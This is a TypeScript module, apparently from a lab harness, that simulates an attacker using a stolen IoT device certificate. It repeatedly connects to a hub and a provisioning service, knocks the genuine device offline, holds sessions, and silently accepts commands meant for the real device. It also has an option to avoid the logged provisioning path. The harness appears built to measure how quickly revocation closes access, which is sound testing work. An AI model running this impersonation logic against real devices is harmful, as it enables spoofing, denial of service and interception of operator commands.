import type { LabClock } from "../clock";
import { leafFacts } from "./credential";
import type { DeviceCredential } from "./credential";
import type { Dialer } from "./dialer";
import { Door } from "./door-record";
import type { DoorRecord } from "./door-record";
import { DpsConnection } from "./dps-client";
import { connectMqtt, MqttRefused } from "./mqtt-client";
import type { MqttConnection } from "./mqtt-client";
import { globalDpsHostName, serveMethods, telemetryTopic } from "./mqtt-transport";
import type { Slots } from "./slots";
import { messageOf } from "./transport";
import type { DeviceMessage, MethodAnswer } from "./transport";
import { Waits } from "./waits";

export interface StolenKey {
  readonly registrationId: string;
  /** Default: the registration id. */
  readonly deviceId?: string;
  readonly hubHostName: string;
  readonly credential: DeviceCredential;
  /** Keep every session the hub grants, and send over it. Default: false, show that it opens and leave. */
  readonly hold?: boolean;
  /** Never goes to DPS, where every try leaves a record. Default: false. */
  readonly shunsDps?: boolean;
}

/** Milliseconds between two tries with one key. */
export interface AttackTiming {
  /** DPS, on a connection that is kept open. Default 250. */
  readonly dpsEveryMs: number;
  /** DPS once it has refused for `relaxAfterMs` on end. Default 600. */
  readonly dpsRelaxedEveryMs: number;
  /** The hub while every door is open: each try throws the genuine device out. Default 3,000. */
  readonly hubCalmEveryMs: number;
  /** The hub from the first refusal on, at either door. Default 400. */
  readonly hubEveryMs: number;
  /** The hub once it has refused for `relaxAfterMs` on end. Default 1,000. */
  readonly hubRelaxedEveryMs: number;
  /** Default 5,000. */
  readonly relaxAfterMs: number;
  /** Messages over a held session. Default 100. */
  readonly sendEveryMs: number;
}

export const defaultAttackTiming: AttackTiming = {
  dpsEveryMs: 250,
  dpsRelaxedEveryMs: 600,
  hubCalmEveryMs: 3_000,
  hubEveryMs: 400,
  hubRelaxedEveryMs: 1_000,
  relaxAfterMs: 5_000,
  sendEveryMs: 100,
};

/** Everything a thief found out about one stolen key. */
export interface KeyReport {
  readonly registrationId: string;
  readonly sha256Thumbprint: string;
  /** New connections to the hub. */
  readonly hub: DoorRecord;
  /** Registrations; accepted means `assigned`. */
  readonly dps: DoorRecord;
  /** Messages over a held session; accepted means acknowledged by the hub. */
  readonly session: DoorRecord;
  /** Whether a session is held right now. */
  readonly holding: boolean;
}

/** A direct method that was meant for the genuine device. */
export interface OverheardMethod {
  readonly name: string;
  readonly payload: unknown;
}

export interface KeyAttackOptions {
  readonly dial: Dialer;
  readonly idScope: string;
  readonly clock: LabClock;
  readonly timing: AttackTiming;
  /** Shared by all keys: handshakes under way. */
  readonly handshakes: Slots;
  readonly timeoutMs: number;
}

/** The tries with one stolen key, at all doors, until it is stopped. */
export class KeyAttack {
  private readonly thumbprint: string;
  private readonly deviceId: string;
  private readonly dps = new Door();
  private readonly hub = new Door();
  private readonly messages = new Door();
  private readonly hubWaits: Waits;
  private readonly dpsWaits: Waits;
  private readonly overheard: OverheardMethod[] = [];
  private stopped = false;
  private alarmed = false;
  private session: MqttConnection | undefined;
  private sending: Promise<void> = Promise.resolve();
  private dpsConnection: DpsConnection | undefined;
  private readonly running: Promise<unknown>;

  constructor(
    readonly key: StolenKey,
    private readonly options: KeyAttackOptions,
  ) {
    this.thumbprint = leafFacts(key.credential.chainPem).sha256Thumbprint;
    this.deviceId = key.deviceId ?? key.registrationId;
    this.hubWaits = new Waits(options.clock);
    this.dpsWaits = new Waits(options.clock);
    this.running = Promise.all([this.tryHubForEver(), key.shunsDps === true ? undefined : this.tryDpsForEver()]);
  }

  report(): KeyReport {
    return {
      registrationId: this.key.registrationId,
      sha256Thumbprint: this.thumbprint,
      hub: this.hub.get(),
      dps: this.dps.get(),
      session: this.messages.get(),
      holding: this.session?.open === true,
    };
  }

  /** The direct methods that reached a held session, oldest first. */
  methods(): readonly OverheardMethod[] {
    return this.overheard;
  }

  /** Sends over the held session. @throws Error when none is held, or when it ends before the acknowledgement. */
  async send(message: DeviceMessage): Promise<void> {
    if (this.session === undefined) throw new Error(`No session is held with the key of ${this.key.registrationId}.`);
    await sendOver(this.session, this.deviceId, message);
  }

  async stop(): Promise<void> {
    this.stopped = true;
    this.session?.end();
    this.dpsConnection?.close();
    this.hubWaits.interrupt();
    this.dpsWaits.interrupt();
    await this.running;
  }

  private isOver(): boolean {
    return this.stopped;
  }

  private async tryHubForEver(): Promise<void> {
    while (!this.isOver()) {
      // While all is quiet a held session is enough; once a door has closed, a new connection is tried beside it.
      if (this.alarmed || this.session?.open !== true) await this.options.handshakes.use(() => this.tryHub());
      if (!this.isOver()) await this.hubWaits.pause(this.hubPause());
    }
    await this.sending;
  }

  private async tryHub(): Promise<void> {
    if (this.isOver()) return;
    const begunAt = this.options.clock.now();
    try {
      const session = await connectMqtt(() => this.options.dial(this.key.hubHostName, this.key.credential), {
        clientId: this.deviceId,
        username: `${this.key.hubHostName}/${this.deviceId}/?api-version=2021-04-12&DeviceClientType=thief`,
        clean: true,
        timeoutMs: this.options.timeoutMs,
      });
      this.hub.accepted(begunAt);
      this.session?.end();
      this.session = session;
      this.sending = this.use(session);
    } catch (error) {
      this.hub.refused(this.options.clock.now(), messageOf(error));
      if (error instanceof MqttRefused) this.alarm();
    }
  }

  /** Sends over a session for as long as it lives; or once, if this key is not to hold any. */
  private async use(session: MqttConnection): Promise<void> {
    const waits = new Waits(this.options.clock);
    void session.closed.then(() => waits.interrupt());
    try {
      if (this.key.hold === true) await serveMethods(session, (name, payload) => this.overhear(name, payload));
      do {
        const begunAt = this.options.clock.now();
        await sendOver(session, this.deviceId, knockMessage);
        this.messages.accepted(begunAt);
        if (this.key.hold === true) await waits.pause(this.options.timing.sendEveryMs);
      } while (this.key.hold === true && session.open);
    } catch (error) {
      this.messages.refused(this.options.clock.now(), messageOf(error));
    }
    session.end();
  }

  /** What the service asks of the device it believes to speak to is the thief's to know; he says yes to all of it. */
  private overhear(name: string, payload: unknown): MethodAnswer {
    this.overheard.push({ name, payload });
    return { status: 202 };
  }

  private hubPause(): number {
    const { timing } = this.options;
    if (this.isLongShut(this.hub)) return timing.hubRelaxedEveryMs;
    return this.alarmed || this.isRobbed() ? timing.hubEveryMs : timing.hubCalmEveryMs;
  }

  private isLongShut(door: Door): boolean {
    const { refusedSince } = door.get();
    return refusedSince !== undefined && this.options.clock.now() - refusedSince > this.options.timing.relaxAfterMs;
  }

  /** A session that was to be held is gone. */
  private isRobbed(): boolean {
    return this.key.hold === true && this.session?.open !== true;
  }

  /** A door has closed: from now on the hub is tried densely, to slip in before it closes too. */
  private alarm(): void {
    if (this.alarmed) return;
    this.alarmed = true;
    this.hubWaits.interrupt();
  }

  private async tryDpsForEver(): Promise<void> {
    while (!this.isOver()) {
      const begunAt = this.options.clock.now();
      try {
        const connection = await this.connectDps();
        const outcome = await connection.register();
        if (outcome.status === "assigned") this.dps.accepted(begunAt);
        else this.dpsRefused(outcome.reason);
      } catch (error) {
        if (!this.isOver()) this.dpsRefused(messageOf(error), error instanceof MqttRefused);
        this.dpsConnection?.close();
        this.dpsConnection = undefined;
      }
      if (!this.isOver()) await this.dpsWaits.pause(this.dpsPause());
    }
  }

  private dpsPause(): number {
    const { dpsEveryMs, dpsRelaxedEveryMs } = this.options.timing;
    return this.isLongShut(this.dps) ? dpsRelaxedEveryMs : dpsEveryMs;
  }

  private async connectDps(): Promise<DpsConnection> {
    if (this.dpsConnection?.open === true) return this.dpsConnection;
    this.dpsConnection = await this.options.handshakes.use(() =>
      DpsConnection.open(this.key.registrationId, this.key.credential, {
        dial: this.options.dial,
        hostName: globalDpsHostName,
        idScope: this.options.idScope,
        clock: this.options.clock,
        timeoutMs: this.options.timeoutMs,
      }),
    );
    return this.dpsConnection;
  }

  private dpsRefused(why: string, isDecision = true): void {
    this.dps.refused(this.options.clock.now(), why);
    if (isDecision) this.alarm();
  }
}

const knockMessage: DeviceMessage = {
  properties: { messageType: "telemetry" },
  body: "{}",
  contentType: "application/json",
};

async function sendOver(session: MqttConnection, deviceId: string, message: DeviceMessage): Promise<void> {
  await session.publish(telemetryTopic(deviceId, message), message.body ?? "", 1);
}
